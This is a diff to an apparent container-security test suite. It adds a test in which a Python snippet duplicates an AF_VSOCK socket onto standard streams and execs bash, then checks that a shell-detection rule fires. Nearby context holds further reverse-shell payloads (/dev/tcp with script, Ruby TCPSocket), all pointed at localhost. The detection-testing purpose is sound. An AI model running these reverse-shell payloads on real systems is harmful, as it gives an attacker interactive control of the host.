@@ -63,6 +63,12 @@ while True:
         data = os.read(ready if ready == terminal else s.fileno(), 4096)
         os.write(s.fileno() if ready == terminal else terminal, data)
 """
+VSOCK = """
+import os, socket
+s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
+for stream in range(3): os.dup2(s.fileno(), stream)
+os.execv("/usr/bin/bash", ["bash"])
+"""
 SCRIPT = "exec 3<>/dev/tcp/127.0.0.1/{port}; /usr/bin/script -qc /usr/bin/bash /dev/null <&3 >&3"
 RUBY = """
 s = TCPSocket.open("127.0.0.1", {port})
@@ -227,6 +233,12 @@ class Techniques(Watched):
                 self.assertIn("42", heard)
                 for rule in rules:
                     self.expect(rule, container, container.id)
+
+    def test_a_socket_of_virtual_machines(self):
+        """One without another end, as not every machine lets it be connected: the kernel says the same of it."""
+        container = self.container("/usr/bin/python3", "-c", VSOCK, ro=PROGRAMS)
+        container.finish()
+        self.expect(SHELL, container, container.id, proc_exepath="/usr/bin/bash")
 
     def test_openssl_on_a_named_pipe(self):
         attacker = Listener()
